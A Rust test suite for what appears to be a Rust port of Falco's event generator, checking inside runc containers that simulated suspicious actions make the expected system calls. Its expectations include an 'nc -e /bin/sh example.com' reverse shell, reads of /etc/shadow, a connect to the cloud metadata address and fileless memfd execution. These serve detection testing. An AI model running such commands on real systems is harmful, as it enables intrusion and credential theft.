//! rampart-eventgen, Falco's event-generator actions in Rust, proven in real runc containers:
//! the action table read from `actions.json` matches what the binary implements, every action
//! that can run in a container runs there to completion, leaves what it must (and only that),
//! and makes the system calls its description names (checked with `strace -f` around
//! `runc exec`, a differential check independent of the tool's own report).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use rampart_testkit::eventgen::{self, Action, Profile, Rootfs, Sandbox, Sandboxes};
use rampart_testkit::tools;

fn bin() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_rampart-eventgen"))
}

/// A root filesystem of its own for each test (statics are never dropped: a shared one would
/// leak its directory).
fn rootfs() -> Rootfs {
    Rootfs::build(&bin())
}

/// `rampart-eventgen list`: name -> place.
fn listed() -> BTreeMap<String, String> {
    tools::run(bin().to_str().unwrap(), &["list"])
        .lines()
        .filter_map(|l| l.split_once('\t'))
        .map(|(n, p)| (n.to_string(), p.to_string()))
        .collect()
}

#[test]
fn the_table_from_actions_json_matches_the_binary() {
    let actions = eventgen::actions();
    assert_eq!(actions.len(), 66, "actions.json counts.actions");
    let listed = listed();
    assert_eq!(
        listed.len(),
        actions.len(),
        "one implementation per action: {listed:?}"
    );
    for a in &actions {
        let place = listed
            .get(&a.name)
            .unwrap_or_else(|| panic!("{} is not implemented", a.name));
        let expected = match a.container.as_str() {
            "required" => "container",
            "host_only" => "host",
            _ => "either",
        };
        assert_eq!(
            place, expected,
            "{}: upstream's container precondition",
            a.name
        );
    }
    let not: Vec<&str> = actions
        .iter()
        .filter(|a| !a.is_applicable())
        .map(|a| a.name.as_str())
        .collect();
    assert_eq!(
        not,
        [
            "syscall.LaunchSuspiciousNetworkToolOnHost",
            "syscall.UserMgmtBinaries"
        ],
        "only the host-only actions cannot run in a container"
    );
    let privileged: Vec<&str> = actions
        .iter()
        .filter(|a| a.profile == Profile::Privileged)
        .map(|a| a.name.as_str())
        .collect();
    assert_eq!(
        privileged,
        [
            "syscall.ChangeThreadNamespace",
            "syscall.DebugfsLaunchedInPrivilegedContainer",
            "syscall.DetectReleaseAgentFileContainerEscapes",
            "syscall.MountLaunchedInPrivilegedContainer",
        ]
    );
    // our extras: implemented, container-only, for stable rules that exist
    let extras: BTreeMap<String, String> = tools::run(bin().to_str().unwrap(), &["extras"])
        .lines()
        .filter_map(|l| l.split_once('\t'))
        .map(|(n, p)| (n.to_string(), p.to_string()))
        .collect();
    let rules = std::fs::read_to_string(rampart_testkit::paths::corpus(
        "falco-rules/rules/falco_rules.yaml",
    ))
    .unwrap();
    for a in eventgen::extras() {
        assert_eq!(
            extras.get(&a.name).map(String::as_str),
            Some("container"),
            "{}",
            a.name
        );
        assert!(
            rules.contains(&format!("- rule: {}\n", a.expected_rule))
                && !actions.iter().any(|u| u.expected_rule == a.expected_rule),
            "{}: a stable rule upstream has no action for",
            a.expected_rule
        );
    }
    let a = eventgen::action("syscall.ReadSensitiveFileUntrusted");
    assert_eq!(a.expected_rule, "Read sensitive file untrusted");
    assert_eq!(
        (a.maturity.as_str(), a.priority.as_str()),
        ("stable", "WARNING")
    );
    assert!(a.needs_root && !a.needs_privileged && a.enabled_by_default);
}

/// The `comm` of every process in the sandbox, its parent's and its exe, read while `during`
/// runs.
fn names_while<T>(sandbox: &Sandbox, during: &std::thread::ScopedJoinHandle<'_, T>) -> Vec<String> {
    let mut seen = Vec::new();
    while !during.is_finished() {
        let out = sandbox.exec(&[
            "sh",
            "-c",
            "for p in /proc/[0-9]*; do echo \"$(cat $p/comm) $(cat /proc/$(awk '{print $4}' $p/stat)/comm 2>/dev/null) $(readlink $p/exe)\"; done",
        ]);
        seen.extend(
            String::from_utf8_lossy(&out.stdout)
                .lines()
                .map(str::to_string),
        );
        std::thread::sleep(Duration::from_millis(300));
    }
    seen
}

/// Every `falco-event-generator-*` entry left in the root filesystem's writable places.
fn leftovers(sandbox: &Sandbox) -> String {
    let out = sandbox.exec(&[
        "sh",
        "-c",
        "ls -a /tmp /bin /etc /lib /root /home /dev /dev/shm /var/lib/rpm 2>/dev/null | grep -e falco-event-generator -e release_agent; ls /release_agent 2>/dev/null; true",
    ]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn every_applicable_action_runs_in_a_container() {
    every_applicable_action_runs(false);
}

#[test]
fn every_applicable_action_runs_over_an_overlay_root() {
    every_applicable_action_runs(true);
}

fn every_applicable_action_runs(overlay: bool) {
    // its own root filesystem: the leftover check below must not see the other tests' actions
    let rootfs = &rootfs();
    let sandboxes = Sandboxes::start(rootfs, overlay);
    let actions: Vec<Action> = eventgen::actions()
        .into_iter()
        .filter(Action::is_applicable)
        .chain(eventgen::extras())
        .collect();
    let t = Instant::now();
    let runs = sandboxes.run_all(&actions);
    assert_eq!(
        runs.iter().map(|r| r.action.as_str()).collect::<Vec<_>>(),
        actions.iter().map(|a| a.name.as_str()).collect::<Vec<_>>(),
        "one run per action, in order"
    );
    let total = t.elapsed();
    for s in [&sandboxes.default, &sandboxes.privileged] {
        assert_eq!(leftovers(s), "", "an action left files behind in {}", s.id);
        for r in runs.iter().filter(|r| r.container_id == s.id) {
            assert_eq!(
                eventgen::action(&r.action).profile,
                s.profile,
                "{}",
                r.action
            );
        }
    }
    // ModifyBinaryDirs renamed it back
    assert_eq!(
        std::fs::read_link(rootfs.dir.join("bin/true")).unwrap(),
        Path::new("/bin/busybox")
    );
    let mut bad = Vec::new();
    for r in &runs {
        eprintln!(
            "{:>6} ms  {}  {}",
            r.elapsed.as_millis(),
            r.status,
            r.action
        );
        if !r.succeeded() || r.pid.is_none() {
            bad.push(format!(
                "{}: {}\n{}{}",
                r.action, r.status, r.stdout, r.stderr
            ));
        }
    }
    assert!(
        bad.is_empty(),
        "{} actions did not succeed:\n{}",
        bad.len(),
        bad.join("\n")
    );
    assert_eq!(runs.len(), 64 + 2);
    eprintln!("all {} applicable actions in {total:?}", runs.len());
    assert!(
        total < Duration::from_secs(40),
        "the action set took {total:?}"
    );
}

#[test]
fn a_trusted_server_name_reads_shadow_six_seconds_after_its_start() {
    // the process the rule sees: comm `httpd` (the symlink's name), exe the tool itself, parent
    // the tool; and /etc/shadow is read only after the 5 s `proc_is_new` window
    let rootfs = rootfs();
    let sandbox = Sandbox::start(&rootfs, Profile::Default);
    let action = eventgen::action("syscall.ReadSensitiveFileTrustedAfterStartup");
    let (run, seen) = std::thread::scope(|s| {
        let h = s.spawn(|| sandbox.run(&action));
        let seen = names_while(&sandbox, &h);
        (h.join().unwrap(), seen)
    });
    assert!(run.succeeded(), "{run:?}");
    assert!(run.elapsed >= Duration::from_secs(6), "{:?}", run.elapsed);
    assert!(
        seen.iter()
            .any(|l| l == &format!("httpd rampart-eventge {}", eventgen::IN_CONTAINER)),
        "no process named httpd, child of rampart-eventgen, running the tool: {seen:#?}"
    );
}

#[test]
fn preconditions_skip_as_upstream_does() {
    let rootfs = &rootfs();
    let default = Sandbox::start(rootfs, Profile::Default);
    let privileged = Sandbox::start(rootfs, Profile::Privileged);
    // host-only actions, in a container
    for name in [
        "syscall.LaunchSuspiciousNetworkToolOnHost",
        "syscall.UserMgmtBinaries",
    ] {
        let r = default.run_name(name);
        assert!(
            r.skipped() && r.stderr.contains("only on the host"),
            "{r:?}"
        );
    }
    // CAP_SYS_ADMIN actions, without it
    for a in eventgen::actions().iter().filter(|a| a.needs_privileged) {
        let r = default.run(a);
        assert!(r.skipped() && r.stderr.contains("CAP_SYS_ADMIN"), "{r:?}");
    }
    let r = default.run_name("extra.LinuxKernelModuleInjection");
    assert!(r.skipped() && r.stderr.contains("CAP_SYS_MODULE"), "{r:?}");
    // the unshare action wants a container *without* CAP_SYS_ADMIN
    let r = privileged.run_name("syscall.ChangeNamespacePrivilegesViaUnshare");
    assert!(r.skipped() && r.stderr.contains("CAP_SYS_ADMIN"), "{r:?}");
    // container-only actions, on the host (the tool is not PID 1 there)
    let out = Command::new(bin())
        .args(["run", "syscall.PacketSocketCreatedInContainer"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    // unknown action: usage error
    let out = Command::new(bin())
        .args(["run", "syscall.Nope"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

/// One expected line of `strace -f` output: every substring on one line, and a success
/// (`= -1 ...` absent) when `ok`.
struct Call {
    all: &'static [&'static str],
    ok: bool,
}

const fn ok(all: &'static [&'static str]) -> Call {
    Call { all, ok: true }
}
const fn any(all: &'static [&'static str]) -> Call {
    Call { all, ok: false }
}

/// The system calls each action's description names.
const SYSCALLS: &[(&str, Profile, &[Call])] = &[
    (
        "extra.RedirectStdoutStdinToNetworkConnectionInContainer",
        Profile::Default,
        &[ok(&["dup2(", ", 1)", "= 1"])],
    ),
    (
        "extra.LinuxKernelModuleInjection",
        Profile::Privileged,
        &[any(&["init_module(", "= -1 "])],
    ),
    // under strace -f the child is already traced by strace: PTRACE_ATTACH and PTRACE_TRACEME are
    // refused (EPERM) there, the call is what this checks (their success is checked without
    // strace by every_applicable_action_runs_in_a_container)
    (
        "PtraceAttachedToProcess",
        Profile::Default,
        &[any(&["ptrace(PTRACE_ATTACH, "])],
    ),
    (
        "PtraceAntiDebugAttempt",
        Profile::Default,
        &[any(&["ptrace(PTRACE_TRACEME"])],
    ),
    (
        "FilelessExecutionViaMemfdCreate",
        Profile::Default,
        &[
            ok(&["memfd_create(\"program\", 0)"]),
            ok(&["execve(\"/proc/self/fd/", "\"run\", \"helper.DoNothing\""]),
        ],
    ),
    (
        "PacketSocketCreatedInContainer",
        Profile::Default,
        &[ok(&["socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))"])],
    ),
    (
        "CreateSymlinkOverSensitiveFiles",
        Profile::Default,
        &[
            ok(&["execve(", "\"ln\", \"-s\", \"/etc\""]),
            ok(&["symlink", "\"/etc\", ", "/etc_link\""]),
        ],
    ),
    (
        "CreateHardlinkOverSensitiveFiles",
        Profile::Default,
        &[ok(&["link", "\"/etc/shadow\", ", "/shadow_link\""])],
    ),
    (
        "ReadSensitiveFileTrustedAfterStartup",
        Profile::Default,
        &[
            ok(&[
                "execve(\"/tmp/falco-event-generator",
                "/httpd\", [",
                "\"run\", \"^syscall.ReadSensitiveFileUntrusted$\", \"--sleep\", \"6s\"]",
            ]),
            ok(&["openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY"]),
        ],
    ),
    (
        "ReadSensitiveFileUntrusted",
        Profile::Default,
        &[ok(&["openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY"])],
    ),
    (
        "DirectoryTraversalMonitoredFileRead",
        Profile::Default,
        &[ok(&[
            "openat(AT_FDCWD, \"/etc/../etc/../etc/shadow\", O_RDONLY",
        ])],
    ),
    (
        "NonSudoSetuid",
        Profile::Default,
        &[
            ok(&[
                "execve(\"/tmp/falco-event-generator",
                "/child\", [",
                "\"run\", \"^syscall.NonSudoSetuid$\"]",
            ]),
            ok(&["setuid(1)"]),
            any(&["setuid(0)", "= -1 EPERM"]),
        ],
    ),
    (
        "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
        Profile::Default,
        &[
            ok(&[
                "/child\", [",
                "\"run\", \"^syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess$\"]",
            ]),
            ok(&["setuid(1)"]),
            any(&["userfaultfd("]),
        ],
    ),
    (
        "ChangeNamespacePrivilegesViaUnshare",
        Profile::Default,
        &[any(&["unshare(0)"])],
    ),
    (
        "ChangeThreadNamespace",
        Profile::Privileged,
        &[any(&["setns(0, 0)"])],
    ),
    (
        "DebugfsLaunchedInPrivilegedContainer",
        Profile::Privileged,
        &[
            ok(&["unshare(CLONE_NEWNS|CLONE_NEWUSER)"]),
            ok(&["execve(\"/usr/bin/debugfs\", [\"debugfs\", \"-V\"]"]),
        ],
    ),
    (
        "ContactEC2InstanceMetadataServiceFromContainer",
        Profile::Default,
        &[any(&[
            "connect(",
            "htons(80)",
            "inet_addr(\"169.254.169.254\")",
            "EINPROGRESS",
        ])],
    ),
    (
        "DisallowedSSHConnectionNonStandardPort",
        Profile::Default,
        &[
            ok(&["execve(\"/usr/bin/ssh\", [\"ssh\", \"user@example.com\", \"-p\", \"443\"]"]),
            any(&[
                "connect(",
                "htons(443)",
                "inet_addr(\"203.0.113.10\")",
                "EINPROGRESS",
            ]),
        ],
    ),
    (
        "UnexpectedUDPTraffic",
        Profile::Default,
        &[
            ok(&["socket(AF_INET, SOCK_DGRAM"]),
            ok(&["connect(", "htons(22)", "inet_addr(\"203.0.113.10\")"]),
        ],
    ),
    (
        "SystemProcsNetworkActivity",
        Profile::Default,
        &[
            ok(&[
                "execve(\"/tmp/falco-event-generator",
                "/sha1sum\", [",
                "\"run\", \"^helper.NetworkActivity$\"]",
            ]),
            ok(&["connect(", "htons(8192)", "inet_addr(\"10.2.3.4\")"]),
        ],
    ),
    (
        "InterpretedProcsInboundNetworkActivity",
        Profile::Default,
        &[
            ok(&[
                "execve(\"/tmp/falco-event-generator",
                "/lua\", [",
                "\"run\", \"^helper.InboundConnection$\"]",
            ]),
            ok(&["bind(", "inet_addr(\"10.200.0.2\")"]),
            ok(&["listen("]),
        ],
    ),
    (
        "RunShellUntrusted",
        Profile::Default,
        &[
            ok(&[
                "execve(\"/tmp/falco-event-generator",
                "/httpd\", [",
                "\"run\", \"^helper.RunShell$\"]",
            ]),
            ok(&["execve(\"/bin/sh\", [\"sh\", \"-c\", \"ls > /dev/null\"]"]),
        ],
    ),
    (
        "DropAndExecuteNewBinaryInContainer",
        Profile::Default,
        &[ok(&[
            "execve(\"/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-",
        ])],
    ),
    (
        "ExecutionFromDevShm",
        Profile::Default,
        &[ok(&[
            "execve(\"/bin/sh\", [\"sh\", \"-c\", \"/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-",
        ])],
    ),
    (
        "ModifyBinaryDirs",
        Profile::Default,
        &[ok(&[
            "rename",
            "\"/bin/true\", ",
            "\"/bin/true.falco-event-generator-syscall-ModifyBinaryDirs-",
        ])],
    ),
    (
        "SetSetuidOrSetgidBit",
        Profile::Default,
        &[ok(&["chmod(", "SetSetuidOrSetgidBit-", "4600)"])],
    ),
    (
        "ContainerDriftDetectedOpenCreate",
        Profile::Default,
        &[ok(&[
            "openat(AT_FDCWD, \"/tmp/falco-event-generator-syscall-ContainerDriftDetectedOpenCreate-",
            "O_CREAT",
            "0755)",
        ])],
    ),
    (
        "WriteBelowEtc",
        Profile::Default,
        &[ok(&[
            "openat(AT_FDCWD, \"/etc/falco-event-generator-syscall-WriteBelowEtc-",
            "O_CREAT|O_EXCL",
        ])],
    ),
    (
        "NetcatRemoteCodeExecutionInContainer",
        Profile::Default,
        &[ok(&[
            "execve(\"/usr/bin/nc\", [\"nc\", \"-e\", \"/bin/sh\", \"example.com\", \"22\"]",
        ])],
    ),
];

const TRACED: &str = "dup2,dup3,init_module,finit_module,execve,ptrace,memfd_create,socket,connect,bind,listen,setuid,setns,unshare,\
symlink,symlinkat,link,linkat,openat,rename,renameat,renameat2,chmod,fchmodat,userfaultfd";

#[test]
fn strace_sees_the_system_calls_each_description_names() {
    tools::ensure_tool("strace", "strace");
    let rootfs = &rootfs();
    let sandboxes = Sandboxes::start(rootfs, false);
    let dir = tempfile::tempdir().unwrap();
    let mut missing = Vec::new();
    for (name, profile, calls) in SYSCALLS {
        let action = if name.contains('.') {
            name.to_string()
        } else {
            format!("syscall.{name}")
        };
        let log = dir.path().join(name);
        let inner = sandboxes.of(*profile).run_command(&action);
        let out = Command::new("strace")
            .args(["-f", "-qq", "-s", "256", "-e"])
            .arg(format!("trace={TRACED}"))
            .arg("-o")
            .arg(&log)
            .arg(inner.get_program())
            .args(inner.get_args())
            .output()
            .unwrap();
        let trace = std::fs::read_to_string(&log).unwrap();
        for call in *calls {
            let found = trace.lines().any(|l| {
                call.all.iter().all(|s| l.contains(s)) && (!call.ok || !l.contains("= -1 "))
            });
            if !found {
                let related: Vec<&str> = trace
                    .lines()
                    .filter(|l| call.all.first().is_some_and(|s| l.contains(s)))
                    .take(8)
                    .collect();
                missing.push(format!(
                    "{action} ({}): no line with {:?}{}; lines with {:?}: {related:#?}",
                    out.status,
                    call.all,
                    if call.ok { " succeeding" } else { "" },
                    call.all.first()
                ));
            }
        }
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

#[test]
fn the_netcat_stand_in_hands_the_connection_to_the_program_with_dup2() {
    // what `nc -e` does once connected (in the sandbox nothing answers, so only here): the
    // socket becomes the program's standard input and output
    tools::ensure_tool("strace", "strace");
    let dir = tempfile::tempdir().unwrap();
    let nc = dir.path().join("nc");
    std::os::unix::fs::symlink(bin(), &nc).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let accept = std::thread::spawn(move || listener.accept().map(|(_, peer)| peer));
    let log = dir.path().join("trace");
    let out = Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=connect,dup2,dup3,execve", "-o"])
        .arg(&log)
        .arg(&nc)
        .args(["-e", "/bin/true", "127.0.0.1", &port])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(accept.join().unwrap().is_ok());
    let trace = std::fs::read_to_string(&log).unwrap();
    let line = |all: &[&str]| trace.lines().any(|l| all.iter().all(|s| l.contains(s)));
    // nonblocking, as in the sandbox: EINPROGRESS, then completed
    assert!(
        line(&[
            "connect(",
            &format!("htons({port})"),
            "127.0.0.1",
            "EINPROGRESS"
        ]),
        "{trace}"
    );
    assert!(
        line(&["dup2(", ", 0)", "= 0"]),
        "no dup2 onto stdin: {trace}"
    );
    assert!(
        line(&["dup2(", ", 1)", "= 1"]),
        "no dup2 onto stdout: {trace}"
    );
    assert!(line(&["execve(\"/bin/true\""]), "{trace}");
}

#[test]
fn other_crates_get_the_binary_through_cargo() {
    // what a test outside this crate (no CARGO_BIN_EXE_ there) calls: the fresh build cargo
    // test left in target/debug
    let built = eventgen::binary();
    let listed = tools::run(built.to_str().unwrap(), &["list"]);
    assert_eq!(listed.lines().count(), 66);
}

#[test]
fn an_overlay_root_takes_the_actions_writes_in_its_upper_layer() {
    let rootfs = rootfs();
    let mtime = |rel: &str| {
        std::fs::metadata(rootfs.dir.join(rel))
            .unwrap()
            .modified()
            .unwrap()
    };
    let before = (mtime("bin"), mtime("etc"));
    let sandbox = Sandbox::builder(&rootfs).overlay(true).start();
    for name in [
        "syscall.DropAndExecuteNewBinaryInContainer",
        "syscall.ModifyBinaryDirs",
        "syscall.WriteBelowEtc",
    ] {
        let r = sandbox.run_name(name);
        assert!(r.succeeded(), "{r:?}");
    }
    // the lower layer (the shared root filesystem) was never written
    assert_eq!((mtime("bin"), mtime("etc")), before);
    // the renamed-and-restored /bin/true was copied up
    let upper = sandbox.upper.as_ref().unwrap();
    assert_eq!(
        std::fs::read_link(upper.join("bin/true")).unwrap(),
        Path::new("/bin/busybox")
    );
}

#[test]
fn a_fresh_container_runs_one_action_and_is_gone_after() {
    let rootfs = rootfs();
    let action = eventgen::action("syscall.ReadSensitiveFileUntrusted");
    let run = eventgen::run_fresh(&rootfs, &action);
    assert!(run.succeeded(), "{run:?}");
    assert!(
        run.stderr
            .contains("syscall.ReadSensitiveFileUntrusted: done"),
        "{run:?}"
    );
    assert!(
        run.pid.is_some_and(|p| p > 1),
        "runc exec --pid-file: {run:?}"
    );
    let state = Command::new("runc")
        .args(["state", &run.container_id])
        .output()
        .unwrap();
    assert!(!state.status.success(), "{} still exists", run.container_id);
}

#[test]
fn the_rootfs_holds_the_tool_its_libraries_and_the_stand_ins() {
    use std::os::unix::fs::MetadataExt;
    let rootfs = rootfs();
    let tool = std::fs::metadata(rootfs.dir.join("usr/local/bin/rampart-eventgen")).unwrap();
    assert_eq!(tool.mode() & 0o777, 0o755);
    for lib in eventgen::shared_libraries(&bin()) {
        assert!(
            rootfs.dir.join(lib.strip_prefix("/").unwrap()).is_file(),
            "{}",
            lib.display()
        );
    }
    assert!(rootfs.standins.iter().any(|s| s == "nc") && rootfs.standins.len() >= 9);
    for name in &rootfs.standins {
        // hard links of the tool, and no busybox applet of the same name left in /bin
        let m = std::fs::metadata(rootfs.dir.join("usr/bin").join(name)).unwrap();
        assert_eq!((m.dev(), m.ino()), (tool.dev(), tool.ino()), "{name}");
        assert!(
            rootfs
                .dir
                .join("bin")
                .join(name)
                .symlink_metadata()
                .is_err(),
            "{name}"
        );
    }
    let shadow = std::fs::metadata(rootfs.dir.join("etc/shadow")).unwrap();
    assert_eq!(
        (shadow.mode() & 0o777, shadow.uid(), shadow.gid()),
        (0o640, 0, 42)
    );
    let passwd = std::fs::read_to_string(rootfs.dir.join("etc/passwd")).unwrap();
    assert!(passwd.contains("\ndaemon:x:1:1:"), "{passwd}");
    // in a sandbox: the names resolve, the tool is PID 1, the cgroup is the container's own
    let sandbox = Sandbox::start(&rootfs, Profile::Default);
    let hosts = String::from_utf8(sandbox.exec(&["cat", "/etc/hosts"]).stdout).unwrap();
    assert!(hosts.contains("203.0.113.10\texample.com"), "{hosts}");
    let init = String::from_utf8(sandbox.exec(&["cat", "/proc/1/cmdline"]).stdout).unwrap();
    assert_eq!(init, format!("{}\0idle\0", eventgen::IN_CONTAINER));
    let cgroup = sandbox.cgroup();
    assert!(cgroup.contains(&sandbox.id), "{cgroup}");
}
